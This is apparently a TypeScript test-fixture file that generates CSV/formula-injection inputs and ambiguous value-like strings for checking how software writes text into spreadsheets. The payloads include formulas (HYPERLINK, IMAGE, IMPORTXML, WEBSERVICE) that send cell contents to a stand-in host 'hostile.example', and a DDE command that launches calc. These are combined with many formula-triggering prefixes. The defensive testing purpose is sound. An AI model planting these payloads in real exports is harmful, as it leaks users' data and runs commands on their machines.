/** Texts that a spreadsheet would work out (OWASP, CSV injection) or take for a number, a date or an error. */

/** Where every formula would send what it reads; no request may ever go there. */
const SPY = 'https://hostile.example'

const CALLS = {
  link: `HYPERLINK("${SPY}/link?"&A1,"Open")`,
  image: `IMAGE("${SPY}/image?"&A1)`,
  xml: `IMPORTXML(CONCAT("${SPY}/xml?",A1),"//a")`,
  data: `IMPORTDATA("${SPY}/data")`,
  service: `WEBSERVICE("${SPY}/service?"&A1)`,
  command: `cmd|'/C calc'!A0`,
}

/** What makes a spreadsheet see a formula, and signs that might be skipped before it. */
const BEGINNINGS = {
  equals: '=',
  plus: '+',
  minus: '-',
  at: '@',
  'tab and equals': '\t=',
  'return and equals': '\r=',
  'line feed and equals': '\n=',
  'quote and equals': '"=',
  'quoted row': '","=',
  'apostrophe and equals': "'=",
  'wide equals': '＝',
}

export const FORMULAS = Object.entries(BEGINNINGS).flatMap(([beginning, signs]) =>
  Object.entries(CALLS).map(([call, text]) => ({ name: `${beginning}, ${call}`, text: `${signs}${text}` })),
)

const VALUES = [
  '007',
  '1e999',
  '-0',
  '0x10',
  '1-2',
  '3/4',
  '00:01',
  '2026-11-21',
  '50%',
  '$1',
  '1,000',
  '1.000,5',
  '+49 30 123456',
  'TRUE',
  'NaN',
  '#REF!',
  '#N/A',
  '١٢٣',
  '12345678901234567890',
  '=',
  '==1',
  "'",
]
export const VALUE_LIKE = VALUES.map((text) => ({ name: text, text }))
